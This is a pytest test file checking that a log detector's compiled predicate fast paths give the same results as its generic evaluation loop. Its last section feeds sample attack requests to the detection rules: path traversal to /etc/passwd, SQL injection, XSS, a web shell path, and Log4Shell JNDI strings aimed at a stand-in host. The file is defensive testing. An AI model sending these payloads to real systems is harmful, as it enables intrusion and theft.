"""Predicate fast paths (expr/fastpaths.py) give exactly the generic loop's results and errors."""

from __future__ import annotations

import itertools
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from crowdwatch.event import Event, Line
from crowdwatch.expr import EVT, compile_expr
from crowdwatch.expr.compiler import generate
from crowdwatch.expr.fastpaths import MAX_BUILDS, MAX_ENTRIES, ElementMemo, StringSetSite, trie_regex
from crowdwatch.expr.helpers import datafiles
from crowdwatch.expr.parser import parse

HUB = Path(__file__).resolve().parents[3] / "shared" / "hub"
Fn = Callable[..., Any]
CX = {"c": "any", "x": "any"}


def build(source: str, variables: dict[str, str], fast: bool) -> tuple[Fn, dict[str, Any]]:
    """``source`` compiled afresh (no program cache), with or without the fast paths."""
    python, ns, _kind = generate(source, parse(source), variables, fast_paths=fast)
    exec(compile(python, "<expr>", "exec"), ns)
    return ns["_expr"], ns


def sites(ns: dict[str, Any]) -> list[StringSetSite]:
    return [v for v in ns.values() if isinstance(v, StringSetSite)]


def outcome(fn: Fn, *args: Any) -> tuple[Any, ...]:
    try:
        r = fn(*args)
    except Exception as exc:
        return ("error", type(exc).__name__, str(exc))
    return ("ok", type(r).__name__, r)


# --- the grid: every shape × collection × X, fast vs generic --------------------------------

ELEMENTS = ["#", "Upper(#)", "Lower(#)", "upper(#)", "lower(#)"]
XS = ["x", "Upper(x)", "x.k"]


def templates() -> Iterator[str]:
    for q, elem, xs in itertools.product(("any", "all", "none"), ELEMENTS, XS):
        for op in ("contains", "startsWith", "endsWith", "=="):
            yield f"{q}(c, {{{xs} {op} {elem}}})"
        yield f"{q}(c, {{{elem} == {xs}}})"


TEMPLATES = list(templates())

COLLECTIONS: list[Any] = [
    [],
    (),
    None,
    5,
    "abc",
    {"k": "ab"},
    ["a"],
    ["", "zz"],
    ["ab", "abc", "b", "ab"],
    ["ß", "SS", "İ", "i̇", "ı", "I"],
    ["STRASSE", "straße", "Straße"],
    ["a.c", "(", "|", "\\", "*", "[x]"],
    ["a", 1],
    [1, "a"],
    ["a", None],
    [None],
    ["a", 1.0, True],
    [["a"], "a"],
    [{"k": "a"}],
    ("ab", "cd"),
]

X_VALUES: list[Any] = [
    None,
    "",
    "abc",
    "xABCx",
    "a.c(|)",
    "straße",
    "STRASSE",
    "İstanbul",
    "iı",
    "zz",
    1,
    1.0,
    True,
    ["a"],
    {"k": "ab"},
    {"k": None},
    {"k": 3},
    {"j": "x"},
]


@pytest.mark.parametrize("source", TEMPLATES)
def test_fast_path_matches_generic_loop(source: str) -> None:
    fast, ns = build(source, CX, fast=True)
    generic, _ = build(source, CX, fast=False)
    assert sites(ns), "the shape was not recognised"
    for coll in COLLECTIONS:
        for x in X_VALUES:
            want = outcome(generic, coll, x)
            for _ in range(3):  # seen once, built, cached
                assert outcome(fast, coll, x) == want, (coll, x)
    assert sites(ns)[0]._builds > 0


@pytest.mark.parametrize(
    "source",
    [
        "any(['ab', 'cd', ''], {x contains #})",
        "all(['ab', 'ab'], {# == x})",
        "none(['/a', '/b'], {x startsWith Lower(#)})",
        "any(['.env', '.git'], {x endsWith #})",
        "any(['a', 1], {x == #})",
    ],
)
def test_literal_collections(source: str) -> None:
    fast, ns = build(source, {"x": "any"}, fast=True)
    generic, _ = build(source, {"x": "any"}, fast=False)
    assert sites(ns)
    for x in X_VALUES:
        want = outcome(generic, x)
        for _ in range(3):
            assert outcome(fast, x) == want, x


WORDS = st.lists(st.text(alphabet="aAbß.*|(İi\\", max_size=4), max_size=6)


@settings(max_examples=300, deadline=None)
@given(words=WORDS, x=st.one_of(st.none(), st.text(alphabet="aAbßS.*|(İi̇\\", max_size=10)))
def test_random_word_lists(words: list[str], x: str | None) -> None:
    for source in RANDOM_SOURCES:
        fast, generic = RANDOM_FNS[source]
        want = outcome(generic, words, x)
        for _ in range(3):
            assert outcome(fast, words, x) == want, source


RANDOM_SOURCES = [
    f"{q}(c, {{{xs} {op} {elem}}})"
    for q in ("any", "all")
    for op in ("contains", "startsWith", "endsWith", "==")
    for elem, xs in (("#", "x"), ("Upper(#)", "Upper(x)"), ("Lower(#)", "x"))
]
RANDOM_FNS = {s: (build(s, CX, True)[0], build(s, CX, False)[0]) for s in RANDOM_SOURCES}


# --- evaluation of X: once, and only for a non-empty collection -------------------------------


def test_x_is_not_evaluated_for_an_empty_collection() -> None:
    fn = compile_expr("any(c, {x.a.b contains #})", CX).fn
    assert fn([], None) is False
    assert compile_expr("all(c, {x.a.b contains #})", CX).fn([], None) is True
    with pytest.raises(Exception, match="cannot fetch a from <nil>"):
        fn(["a"], None)


def test_nil_collection_is_a_runtime_error() -> None:
    with pytest.raises(Exception, match="any: cannot iterate over <nil>"):
        compile_expr("any(c, {x contains #})", CX).fn(None, "a")


def test_non_string_element_errors_like_the_loop() -> None:
    fn = compile_expr("any(c, {x contains #})", CX).fn
    coll = ["zz", 3]
    for _ in range(3):
        with pytest.raises(Exception, match="invalid operation: string contains int"):
            fn(coll, "a")
    assert fn(["a", 3], "a") is True  # short-circuit before the bad element


def test_nil_x_never_matches() -> None:
    coll = ["a", ""]
    for q, want in (("any", False), ("all", False), ("none", True)):
        fn = compile_expr(f"{q}(c, {{x contains #}})", CX).fn
        assert [fn(coll, None) for _ in range(3)] == [want] * 3


def test_empty_element_is_contained_in_any_string() -> None:
    fn = compile_expr("any(c, {x contains Upper(#)})", CX).fn
    coll = ["zzz", ""]
    assert [fn(coll, "") for _ in range(3)] == [True] * 3


def test_go_case_mapping_is_kept() -> None:
    fn = compile_expr("any(c, {Upper(x) contains Upper(#)})", CX).fn
    coll = ["ß"]
    assert [fn(coll, "STRASSE") for _ in range(3)] == [False] * 3  # Go: ToUpper("ß") == "ß"
    assert [fn(coll, "straße") for _ in range(3)] == [True] * 3
    low = compile_expr("any(c, {x == Lower(#)})", CX).fn
    assert [low(["İ"], "i") for _ in range(3)] == [True] * 3  # Go: ToLower("İ") == "i"


# --- the per-site cache ------------------------------------------------------------------------


def test_list_changed_in_place_is_seen() -> None:
    fn, ns = build("any(c, {x == #})", CX, fast=True)
    coll: list[object] = ["a", "b"]
    assert [fn(coll, "c") for _ in range(3)] == [False] * 3
    coll[1] = "c"
    assert fn(coll, "c") is True
    coll.append(7)  # not all strings any more: the generic loop answers
    assert [fn(coll, "zz") for _ in range(3)] == [False] * 3
    assert fn(coll, "c") is True
    assert sites(ns)[0]._builds >= 2


def test_fresh_lists_are_never_built() -> None:
    fn, ns = build("any(Split(y, ','), {x contains #})", {"x": "any", "y": "any"}, fast=True)
    for i in range(3 * MAX_ENTRIES):
        assert fn(f"{i}b", "a,b") is True
    site = sites(ns)[0]
    assert site._builds == 0
    assert len(site._entries) <= MAX_ENTRIES


def test_a_list_that_keeps_changing_stops_being_rebuilt() -> None:
    fn, ns = build("any(c, {x endsWith #})", CX, fast=True)
    coll = ["a"]
    for i in range(4 * MAX_BUILDS):
        coll[0] = str(i)
        assert fn(coll, f"x{i}") is True
        assert fn(coll, "x-") is False
    assert sites(ns)[0]._builds == MAX_BUILDS


def test_other_shapes_are_not_fast_paths() -> None:
    for source in (
        "any(c, {x contains # && true})",
        "any(c, {# contains x})",
        "any(c, {x.Foo() contains #})",
        "any(c, {Trim(x, ' ') contains #})",
        "any(c, {let y = x; y contains #})",
        "one(c, {x == #})",
        "any(c, {x contains #.a})",
        "any(c, {Upper(#) contains x})",
        "any(c, {1 == #})",
    ):
        _fn, ns = build(source, CX, fast=True)
        assert not sites(ns), source


# --- trie regex, element memo, constant folding -----------------------------------------------


@settings(max_examples=300, deadline=None)
@given(words=st.lists(st.text(alphabet="ab.*İ\\(", min_size=1, max_size=5), min_size=1, max_size=8))
def test_trie_regex_finds_any_word(words: list[str]) -> None:
    rx = trie_regex(words)
    for x in ["", "ab", "ba.*", "aab(b", "İ\\a", *words, "".join(words)]:
        assert (rx.search(x) is not None) == any(w in x for w in words), (words, x)


def test_trie_regex_is_one_branch_per_character() -> None:
    assert trie_regex(["abc", "abd", "ab"]).pattern == "ab(?:(?:c|d))?"
    assert trie_regex(["a.b"]).pattern == re.escape("a.b")


def test_element_memo_calls_once_per_element() -> None:
    calls: list[object] = []

    def f(s: object, path: str) -> str:
        calls.append(s)
        if not isinstance(s, str):
            raise TypeError("bad")
        return s + path

    memo = ElementMemo(f, 0, (None, "!"))
    assert [memo("a"), memo("a"), memo("b")] == ["a!", "a!", "b!"]
    assert calls == ["a", "b"]
    for _ in range(2):
        with pytest.raises(TypeError):
            memo(1)
    assert calls == ["a", "b", 1, 1]


def test_pure_calls_on_literals_are_folded() -> None:
    prog = compile_expr("Upper(evt.Meta.p) contains Upper('/a?x=ß') && Lower('ÀB') == 'àb'")
    assert "'/A?X=ß'" in prog.python and "'àb' == 'àb'" in prog.python
    evt = Event(Line(raw="r"))
    evt.Meta["p"] = "/a?X=ß&y"
    assert prog.run(evt) is True


def test_memoised_helper_in_generic_predicate() -> None:
    source = "any(c, {x contains JsonExtract(#, 'u') ? true : false})"
    fast, _ = build(source, CX, fast=True)
    generic, _ = build(source, CX, fast=False)
    coll = ['{"u": "/a"}', "not json", 3]
    for x in ["/a/b", "/b", None]:
        for _ in range(2):
            assert outcome(fast, coll, x) == outcome(generic, coll, x)


# --- the hub's own filters ------------------------------------------------------------------------

HUB_SCENARIOS = [
    "http-path-traversal-probing",
    "http-sqli-probing",
    "http-xss-probing",
    "http-sensitive-files",
    "http-backdoors-attempts",
    "http-admin-interface-probing",
    "apache_log4j2_cve-2021-44228",
    "jira_cve-2021-26086",
]

REQUESTS = [
    ("/products", "page=2", "Mozilla/5.0"),
    ("/../../etc/passwd", "", "curl/8"),
    ("/search", "q=1%20UNION%20select%20password", "sqlmap"),
    ("/search", "q=<script>alert(1)</script>", "x"),
    ("/.env", "", "x"),
    ("/wp-content/c99.php", "", "x"),
    ("/phpmyadmin/index.php", "", "x"),
    ("/x", "a=${jndi:ldap://e/a}", "${jndi:ldap://evil/a}"),
    ("/s/_/;/web-inf/web.xml", "", "x"),
    ("/straße", "q=İ", "ß"),
]


@pytest.fixture
def hub_filters() -> Iterator[list[str]]:
    if not (HUB / "scenarios").is_dir():
        pytest.skip("../shared/hub is not available")
    datafiles.reset()
    filters = []
    for name in HUB_SCENARIOS:
        doc = yaml.safe_load((HUB / "scenarios" / "crowdsecurity" / f"{name}.yaml").read_text())
        for entry in doc.get("data") or []:
            datafiles.load(HUB / "data", entry["dest_file"], entry["type"])
        filters.append(doc["filter"])
    yield filters
    datafiles.reset()


def hub_event(path: str, args: str, ua: str) -> Event:
    evt = Event(Line(raw="r"))
    evt.Meta.update(log_type="http_access-log", http_path=path, service="http", http_status="404")
    evt.Parsed.update(
        http_args=args,
        http_user_agent=ua,
        http_referer="-",
        request=f"{path}?{args}" if args else path,
        file_name=path.rsplit("/", 1)[-1],
    )
    return evt


def test_hub_filters_use_the_fast_path_and_agree(hub_filters: list[str]) -> None:
    for source in hub_filters:
        matched = 0
        fast, ns = build(source, dict(EVT), fast=True)
        generic, _ = build(source, dict(EVT), fast=False)
        assert sites(ns), source
        for r in REQUESTS:
            evt = hub_event(*r)
            want = outcome(generic, evt)
            assert want[0] == "ok"
            matched += want[2] is True
            for _ in range(3):
                assert outcome(fast, evt) == want, (source, r)
        assert matched, f"no sample request matches {source}"
